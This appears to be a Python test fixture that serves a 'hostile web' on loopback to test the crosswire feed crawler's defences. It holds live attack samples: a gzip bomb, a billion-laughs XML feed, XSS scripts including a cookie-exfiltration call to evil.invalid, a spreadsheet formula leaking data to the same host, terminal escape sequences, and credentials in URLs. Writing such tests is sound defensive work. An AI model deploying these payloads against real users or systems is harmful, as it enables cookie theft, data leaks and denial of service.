"""The hostile web: what a months-long unattended crawl meets sooner or later, served on loopback.

`HostileWeb` runs its own small server (the shared TestWeb writes whole bodies; these handlers must stream,
drip and compress on the fly). Three sites, so per-host rules (robots.txt, Retry-After) stay apart:

    main (the Frontier Observer)
      /feed.xml             an RSS feed listing one entry for each page below
      /ok.html              a plain, good article: the crawl must still store it
      /bomb.html            gzip bomb: 512 MB of zeros as ~0.5 MB of gzip, Content-Encoding: gzip
      /huge.html            a 50 MB page streamed in chunks, no Content-Length
      /loop-a.html          302 -> /loop-b.html -> 302 -> /loop-a.html ... forever
      /drip.html            one byte a second (until the client gives up)
      /calendar/<day>.html  an endless calendar: every day links to the next, forever
      /binary.html          random bytes labelled text/html
      /charset.html         a Cyrillic article in windows-1251 declared as utf-8
      /xss.html             an article carrying <script>, onerror= and javascript: payloads
      /laughs.xml           a second feed: XML entity expansion ("billion laughs"); its item is /ok-2.html
    closed (the Shuttered Gazette)  robots.txt disallows everything; its feed must never be fetched
    busy (the Crowded Wire)         /feed.xml answers 429 with Retry-After: 3600
    poison (the Poison Pen)         output that attacks its reader: a JSON Feed whose
      /feed.json            items carry a spreadsheet formula as headline, terminal escapes in the byline,
      /formula.html         javascript: and data: images, and a link with a user name and password in it;
      /private.html         the pages behind them. Not in `sources_toml()`: `poison_sources_toml()` adds it.

Every outlet, headline and paragraph here is fictional.
"""

from __future__ import annotations

import html
import json
import random
import threading
import zlib
from dataclasses import dataclass
from datetime import date, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Callable, Iterator

RETRY_AFTER = 3600
BOMB_BYTES = 512 * 1024 * 1024
HUGE_BYTES = 50 * 1024 * 1024
XSS_MARKERS = ["<script", "alert(", "onerror", "javascript:", "document.cookie", "<img", "<iframe"]


@dataclass
class Reply:
    """What a hostile handler sends: status, headers, and a body as bytes or as an iterator of chunks."""

    status: int
    headers: dict[str, str]
    body: bytes | Iterator[bytes] = b""
    delay_per_chunk: float = 0.0     # seconds to sleep before each chunk (the drip)


Handler = Callable[[str], Reply]

# --- content: original, fictional reporting -----------------------------------------------------------

OK_ARTICLE = ("Night convoy reaches Velmar after three-day wait at checkpoint", [
    "A convoy of eleven lorries carrying flour, insulin and generator parts reached the town of Velmar late on "
    "Tuesday, after waiting three days at the Kesta checkpoint while both sides argued over inspection rules.",
    "Drivers said they slept in their cabs as shelling was heard to the east. The regional relief office "
    "confirmed that all eleven vehicles had crossed and that unloading began at the municipal stadium.",
    "Velmar's hospital director, Ilse Maranova, said the insulin would last about six weeks. She asked that "
    "the next convoy bring oxygen concentrators, which the hospital has been rationing since the winter.",
    "A second convoy is scheduled for next week, but officials cautioned that the route remains exposed to "
    "artillery fire and that the crossing could be closed again at short notice.",
])
OK2_ARTICLE = ("Ferry service across the Dessa estuary resumes for civilians", [
    "The ferry linking the two banks of the Dessa estuary carried civilians again on Monday for the first "
    "time since the spring, the port authority said, with four crossings a day in daylight hours only.",
    "Passengers must register a day in advance, and vehicles are not yet allowed. The authority said the "
    "landing stages had been repaired after being damaged by drone strikes in April.",
    "Residents on the eastern bank had relied on a single pontoon bridge forty kilometres upstream, a "
    "journey that took most of a day. Traders said the ferry would bring fresh produce back to the market.",
])
XSS_ARTICLE = ("Council debates shelter funding as winter approaches", [
    "The regional council met on Thursday to debate how much of its reserve fund should go to heating the "
    "twelve public shelters that have housed displaced families since the front line moved west.",
    "Councillors agreed to repair the boiler at the former textile school, which hosts more than three "
    "hundred people, but postponed a vote on buying mobile kitchens until the next session.",
    "Aid groups told the meeting that blankets and children's winter clothing were running short, and that "
    "the number of arrivals from the border districts had doubled over the past month.",
])
CHARSET_ARTICLE = ("Переправа через Дессу снова открыта для жителей", [
    "В понедельник паром через устье Дессы впервые с весны перевёз мирных жителей, сообщило управление "
    "порта. Рейсы будут выполняться четыре раза в день и только в светлое время суток.",
    "Пассажиры должны записаться за день до поездки, автомобили пока не допускаются. По словам управления, "
    "причалы отремонтированы после ударов беспилотников в апреле.",
    "Жители восточного берега до сих пор пользовались единственным понтонным мостом в сорока километрах "
    "выше по течению, и дорога занимала почти целый день.",
])


def article_html(title: str, paragraphs: list[str], *, extra_head: str = "", extra_body: str = "",
                 lang: str = "en", charset: str = "utf-8") -> str:
    """A plain article page (escaped text; `extra_*` are raw HTML, for the payloads)."""
    paras = "\n".join(f"<p>{html.escape(p)}</p>" for p in paragraphs)
    return (f'<!DOCTYPE html><html lang="{lang}"><head><meta charset="{charset}"><title>{html.escape(title)}'
            f"</title>{extra_head}</head><body><header><a href=\"/\">Frontier Observer</a></header>"
            f"<article><h1>{html.escape(title)}</h1>"
            f'<p class="byline">By Teodor Vask</p><time datetime="2026-03-02T08:00:00Z">2 March 2026</time>'
            f"{paras}{extra_body}</article><footer>© Frontier Observer</footer></body></html>")


XSS_PAYLOAD_BODY = (
    '<script>document.location="http://evil.invalid/?c="+document.cookie</script>'
    '<p>Read the <a href="javascript:alert(\'council\')">full minutes</a> of the session.'
    '<img src="x.jpg" onerror="alert(document.cookie)"></p>'
    '<iframe src="javascript:alert(1)"></iframe>'
    '<p onmouseover="alert(2)">Councillors will meet again next Thursday.</p>'
)
XSS_PAYLOAD_HEAD = '<script>alert("head")</script><meta http-equiv="refresh" content="0;url=javascript:alert(3)">'


def laughs_feed(item_url: str) -> bytes:
    """An RSS feed whose DOCTYPE defines entities that expand to 10**9 'lol's if a parser lets them."""
    entities = ['<!ENTITY lol "lol">']
    previous = "lol"
    for n in range(1, 10):
        entities.append(f'<!ENTITY lol{n} "' + f"&{previous};" * 10 + '">')
        previous = f"lol{n}"
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + "\n".join(entities) + "\n]>\n"
        '<rss version="2.0"><channel><title>Laughs &lol9;</title><link>http://laughs.invalid/</link>'
        "<description>&lol9;</description>"
        f"<item><title>{OK2_ARTICLE[0]} &lol9;</title><link>{item_url}</link>"
        f"<guid>{item_url}</guid><description>&lol9;</description>"
        "<pubDate>Mon, 02 Mar 2026 07:00:00 GMT</pubDate></item></channel></rss>"
    ).encode("utf-8")


def rss(title: str, base: str, items: list[tuple[str, str]]) -> bytes:
    """A small RSS 2.0 feed of (title, path) items on `base`."""
    entries = "".join(
        f"<item><title>{html.escape(t)}</title><link>{base}{p}</link><guid>{base}{p}</guid>"
        f"<pubDate>Mon, 02 Mar 2026 0{n % 10}:00:00 GMT</pubDate></item>" for n, (t, p) in enumerate(items))
    return (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>{html.escape(title)}'
            f"</title><link>{base}/</link><description>{html.escape(title)}</description>{entries}"
            "</channel></rss>").encode("utf-8")


_BOMB: bytes | None = None
_BOMB_LOCK = threading.Lock()


def gzip_bomb() -> bytes:
    """BOMB_BYTES of zeros as gzip: one 16 MB member repeated (gzip allows members back to back), built once."""
    global _BOMB
    with _BOMB_LOCK:
        if _BOMB is None:
            packer = zlib.compressobj(9, zlib.DEFLATED, 31)    # wbits 31: a gzip member
            member = packer.compress(bytes(16 * 1024 * 1024)) + packer.flush()
            _BOMB = member * (BOMB_BYTES // (16 * 1024 * 1024))
        return _BOMB


def huge_chunks(total: int = HUGE_BYTES) -> Iterator[bytes]:
    """A `total`-byte HTML page generated 64 KB at a time (the page never exists whole in memory)."""
    head = article_html("Archive: every statement of the week", ["Statements follow."]).encode()
    head = head[:head.index(b"</article>")]
    yield head
    line = b"<p>" + b"Statement follows; statement follows. " * 40 + b"</p>\n"
    chunk = line * (65536 // len(line))
    sent = len(head)
    while sent < total:
        piece = chunk[:total - sent]
        sent += len(piece)
        yield piece


def binary_junk(size: int = 200_000, seed: int = 7) -> bytes:
    """Reproducible random bytes (no valid text in any charset)."""
    return random.Random(seed).randbytes(size)


PASSWORD = "hunter2-Zx9"       # the credential in the Poison Pen's links: it must never be stored or shown
FORMULA_TITLE = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Casualty figures")'
FORMULA_ARTICLE = (FORMULA_TITLE, [
    "Figures released by the district administration on Monday put the number of damaged homes in the "
    "eastern quarter at just over four hundred, most of them from shelling in the last fortnight.",
    "Engineers said about a third could be repaired before winter if roofing sheets arrive in time, while "
    "the rest would need to be rebuilt; families from those houses are staying with relatives.",
    "The administration said it would publish an updated count every week and asked residents to report "
    "damage at the town hall rather than by telephone, because the lines are overloaded.",
])
PRIVATE_ARTICLE = ("Members' briefing: convoy timetable for the week", [
    "This briefing is for subscribers only and lists the expected arrival times of the relief convoys "
    "crossing the Kesta checkpoint over the coming week, subject to the security situation.",
    "Convoy timings may change at short notice; the relief office will confirm each crossing on the morning "
    "it takes place, and drivers should not gather at the checkpoint before confirmation.",
])
ESCAPE_BYLINE = "\x1b]0;you have been pwned\x07Eve \x1b[2J\x1b[1;31mMallory"


def poison_feed(base: str) -> bytes:
    """A JSON Feed whose items attack the reader of crosswire's output: a formula headline, escape sequences
    in the byline, javascript: and data: images, and a link carrying a user name and password."""
    private = base.replace("http://", f"http://reader:{PASSWORD}@") + "/private.html"
    items = [
        {"id": "formula", "url": base + "/formula.html", "title": FORMULA_TITLE,
         "content_text": " ".join(FORMULA_ARTICLE[1]), "date_published": "2026-03-02T09:00:00Z",
         "authors": [{"name": ESCAPE_BYLINE}], "image": "javascript:alert(document.cookie)"},
        {"id": "private", "url": private, "title": PRIVATE_ARTICLE[0], "content_text": " ".join(PRIVATE_ARTICLE[1]),
         "date_published": "2026-03-02T10:00:00Z", "image": "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="},
    ]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "Poison Pen",
                       "home_page_url": base + "/", "items": items}).encode("utf-8")


def poison_routes(base: str) -> dict[str, Handler]:
    """The Poison Pen: a JSON Feed and the two pages it links (the private one is served to anyone)."""
    page = "text/html; charset=utf-8"
    return {
        "/robots.txt": lambda path: Reply(200, {"Content-Type": "text/plain"}, b"User-agent: *\nDisallow:\n"),
        "/feed.json": lambda path: Reply(200, {"Content-Type": "application/feed+json"}, poison_feed(base)),
        "/formula.html": lambda path: Reply(200, {"Content-Type": page}, article_html(*FORMULA_ARTICLE).encode()),
        "/private.html": lambda path: Reply(200, {"Content-Type": page}, article_html(*PRIVATE_ARTICLE).encode()),
    }


# --- the sites ------------------------------------------------------------------------------------------

def main_routes(base: str) -> dict[str, Handler]:
    """Path -> handler for the main hostile site (exact paths; /calendar/ is matched by prefix)."""
    page = "text/html; charset=utf-8"
    feed_items = [(OK_ARTICLE[0], "/ok.html"), ("Photo essay", "/bomb.html"), ("The week in statements", "/huge.html"),
                  ("Moved story", "/loop-a.html"), ("Live blog", "/drip.html"),
                  ("Events calendar", "/calendar/2026-03-01.html"), ("Gallery", "/binary.html"),
                  (CHARSET_ARTICLE[0], "/charset.html"), (XSS_ARTICLE[0], "/xss.html")]
    xss = article_html(*XSS_ARTICLE, extra_head=XSS_PAYLOAD_HEAD, extra_body=XSS_PAYLOAD_BODY)
    charset_page = article_html(*CHARSET_ARTICLE, lang="ru", charset="utf-8").encode("cp1251")
    return {
        "/robots.txt": lambda path: Reply(200, {"Content-Type": "text/plain"}, b"User-agent: *\nDisallow:\n"),
        "/feed.xml": lambda path: Reply(200, {"Content-Type": "application/rss+xml"},
                                        rss("Frontier Observer", base, feed_items)),
        "/laughs.xml": lambda path: Reply(200, {"Content-Type": "application/rss+xml"},
                                          laughs_feed(base + "/ok-2.html")),
        "/ok.html": lambda path: Reply(200, {"Content-Type": page}, article_html(*OK_ARTICLE).encode()),
        "/ok-2.html": lambda path: Reply(200, {"Content-Type": page}, article_html(*OK2_ARTICLE).encode()),
        "/bomb.html": lambda path: Reply(200, {"Content-Type": page, "Content-Encoding": "gzip"}, gzip_bomb()),
        "/huge.html": lambda path: Reply(200, {"Content-Type": page}, huge_chunks()),
        "/loop-a.html": lambda path: Reply(302, {"Location": base + "/loop-b.html"}),
        "/loop-b.html": lambda path: Reply(302, {"Location": base + "/loop-a.html"}),
        "/drip.html": lambda path: Reply(200, {"Content-Type": page},
                                         (bytes([b]) for b in article_html(*OK_ARTICLE).encode()),
                                         delay_per_chunk=1.0),
        "/binary.html": lambda path: Reply(200, {"Content-Type": "text/html"}, binary_junk()),
        "/charset.html": lambda path: Reply(200, {"Content-Type": page}, charset_page),
        "/xss.html": lambda path: Reply(200, {"Content-Type": page}, xss.encode()),
    }


def calendar_page(path: str) -> Reply:
    """/calendar/<YYYY-MM-DD>.html: a day's (empty) events page linking to the next day, for ever."""
    try:
        day = date.fromisoformat(path.rsplit("/", 1)[1].removesuffix(".html"))
    except ValueError:
        return Reply(404, {"Content-Type": "text/plain"}, b"no such day")
    nxt, prev = day + timedelta(days=1), day - timedelta(days=1)
    body = (f"<!DOCTYPE html><html><head><title>Events on {day}</title></head><body><h1>Events on {day}</h1>"
            f"<p>No events are listed for this day.</p><a href=\"/calendar/{prev}.html\">previous day</a> "
            f"<a href=\"/calendar/{nxt}.html\">next day</a></body></html>")
    return Reply(200, {"Content-Type": "text/html; charset=utf-8"}, body.encode())


def closed_routes(base: str) -> dict[str, Handler]:
    """A site whose robots.txt forbids everything."""
    return {
        "/robots.txt": lambda path: Reply(200, {"Content-Type": "text/plain"}, b"User-agent: *\nDisallow: /\n"),
        "/feed.xml": lambda path: Reply(200, {"Content-Type": "application/rss+xml"},
                                        rss("Shuttered Gazette", base, [(OK_ARTICLE[0], "/ok.html")])),
        "/ok.html": lambda path: Reply(200, {"Content-Type": "text/html"}, article_html(*OK_ARTICLE).encode()),
    }


def busy_routes(base: str) -> dict[str, Handler]:
    """A site that is rate-limiting us: 429 with Retry-After on its feed."""
    return {
        "/robots.txt": lambda path: Reply(200, {"Content-Type": "text/plain"}, b"User-agent: *\nDisallow:\n"),
        "/feed.xml": lambda path: Reply(429, {"Content-Type": "text/plain", "Retry-After": str(RETRY_AFTER)},
                                        b"Too many requests; come back later.\n"),
    }


# --- the server -----------------------------------------------------------------------------------------

class _Server(ThreadingHTTPServer):
    daemon_threads = True
    routes: dict[str, Handler]
    web: "HostileWeb"
    name: str


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server

    def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
        path = self.path.split("?", 1)[0]
        self.server.web.record(self.server.name, path)
        handler = self.server.routes.get(path)
        if handler is None and path.startswith("/calendar/") and self.server.name == "main":
            handler = calendar_page
        reply = handler(path) if handler else Reply(404, {"Content-Type": "text/plain"}, b"not found")
        self.send_response(reply.status)
        for name, value in reply.headers.items():
            self.send_header(name, value)
        try:
            if isinstance(reply.body, bytes):
                self.send_header("Content-Length", str(len(reply.body)))
                self.end_headers()
                self.wfile.write(reply.body)
                return
            # Streamed: chunked transfer encoding, no Content-Length announced up front.
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for chunk in reply.body:
                if reply.delay_per_chunk and self.server.web.released.wait(reply.delay_per_chunk):
                    break       # the web is stopping: stop dripping
                self.wfile.write(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
            self.wfile.write(b"0\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True    # the client gave up, as it should

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        pass


class HostileWeb:
    """The three hostile sites on free loopback ports, with a log of the paths each was asked for."""

    __test__ = False
    SITES = {"main": main_routes, "closed": closed_routes, "busy": busy_routes, "poison": poison_routes}

    def __init__(self, host: str = "127.0.0.1") -> None:
        self.host = host
        self.released = threading.Event()
        self._servers: dict[str, _Server] = {}
        self._threads: list[threading.Thread] = []
        self._log: list[tuple[str, str]] = []
        self._lock = threading.Lock()

    def start(self) -> "HostileWeb":
        """Bind every site and serve each from a daemon thread."""
        for name, routes in self.SITES.items():
            server = _Server((self.host, 0), _Handler)
            server.name, server.web = name, self
            server.routes = routes(self.base_url_of(server))
            self._servers[name] = server
        for server in self._servers.values():
            thread = threading.Thread(target=server.serve_forever, daemon=True, name=f"hostile-{server.name}")
            thread.start()
            self._threads.append(thread)
        return self

    def stop(self) -> None:
        """Stop every site and release the drip."""
        self.released.set()
        for server in self._servers.values():
            server.shutdown()
            server.server_close()
        for thread in self._threads:
            thread.join(timeout=5)

    def __enter__(self) -> "HostileWeb":
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def base_url_of(self, server: _Server) -> str:
        return f"http://{self.host}:{server.server_address[1]}"

    def base_url(self, site: str) -> str:
        """e.g. 'http://127.0.0.1:41234' for 'main', 'closed' or 'busy'."""
        return self.base_url_of(self._servers[site])

    def url(self, site: str, path: str) -> str:
        """The absolute URL of a path on a site."""
        return self.base_url(site) + path

    def record(self, site: str, path: str) -> None:
        with self._lock:
            self._log.append((site, path))

    @property
    def requests(self) -> list[tuple[str, str]]:
        """(site, path) of every request so far, in order."""
        with self._lock:
            return list(self._log)

    def sources_toml(self) -> str:
        """A crosswire sources file with the three hostile sites."""
        feeds = {"main": ["/feed.xml", "/laughs.xml"], "closed": ["/feed.xml"], "busy": ["/feed.xml"]}
        names = {"main": "frontier-observer", "closed": "shuttered-gazette", "busy": "crowded-wire"}
        return "\n".join(
            f'[[source]]\nname = "{names[site]}"\nhomepage = "{self.url(site, "/")}"\n'
            f"feeds = [{', '.join(repr(self.url(site, p)).replace(chr(39), chr(34)) for p in paths)}]\n"
            for site, paths in feeds.items())

    def poison_sources_toml(self, *, with_password: bool = False) -> str:
        """The Poison Pen as a source; `with_password` puts the credentials into its feed URL itself."""
        feed = self.url("poison", "/feed.json")
        if with_password:
            feed = feed.replace("http://", f"http://reader:{PASSWORD}@")
        return f'[[source]]\nname = "poison-pen"\nhomepage = "{self.url("poison", "/")}"\nfeeds = ["{feed}"]\n'


__all__ = ["HostileWeb", "Reply", "XSS_MARKERS", "RETRY_AFTER", "OK_ARTICLE", "OK2_ARTICLE", "CHARSET_ARTICLE",
           "XSS_ARTICLE", "gzip_bomb", "huge_chunks", "laughs_feed", "PASSWORD", "FORMULA_TITLE", "FORMULA_ARTICLE",
           "PRIVATE_ARTICLE", "ESCAPE_BYLINE"]
